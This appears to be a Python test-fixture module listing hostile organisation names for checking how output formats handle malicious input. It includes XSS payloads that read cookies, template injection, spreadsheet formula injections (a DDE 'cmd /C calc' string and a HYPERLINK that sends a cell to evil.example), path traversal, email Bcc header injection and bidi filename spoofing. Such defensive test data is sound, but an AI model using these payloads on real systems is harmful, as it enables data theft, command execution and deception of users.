"""Names of organisations that try to do harm wherever they are written down."""

HOSTILE = {
    "html": '<img src=x onerror="alert(1)"><script>alert(document.cookie)</script></td></table>',
    "template": "{{ 7*7 }}{% for x in y %}${7*7}#{7*7}<%= 7*7 %>%s%(x)s{0}",
    "typst": '#panic("x") *굵게* $x^2$ `raw` @ref <label> \\ // /* [',
    "formula": '=HYPERLINK("http://evil.example/?"&A1,"열기")',
    "formula-plus": "+1+cmd|' /C calc'!A0",
    "formula-at": "@SUM(1+9)*cmd|' /C calc'!A0",
    "formula-tab": "\t=1+1",
    "formula-wide": "＝1+1",
    "path": "../../../etc/passwd\\..\\..\\windows/C:|?*<>",
    "lines": "한빛\r\nBcc: everyone@evil.example\r\n\r\n<p>본문</p>",
    "long": "가나다라마" * 100,
    "long-word": "W" * 500,
    "bidi": "한빛\u202egpj.exe\u2066뒤집기\u2069\u200f\u202c",
    "emoji": "한빛👩‍👩‍👧‍👦🇰🇷🔥é" + "e\u0301" * 3 + "\U0001f1f0",
    "control": "한\x00빛\x07\x1b[31m\x08\x0b\x0c\x7f\x9b\ufffe\ud800끝",
    "zalgo": "한" + "\u0301" * 200 + "빛",
    "url": "www.evil.example http://evil.example/a javascript:alert(1)",
    "blank": "\u3164\u2800\u200b",
}
"""By what they try."""
INVISIBLE = "\x00\x07\x08\x0b\x0c\x1b\x7f\x9b\u202e\u2066\u2069\u200f\u202c\u200b\ufffe"
"""Signs that must not get to a reader."""
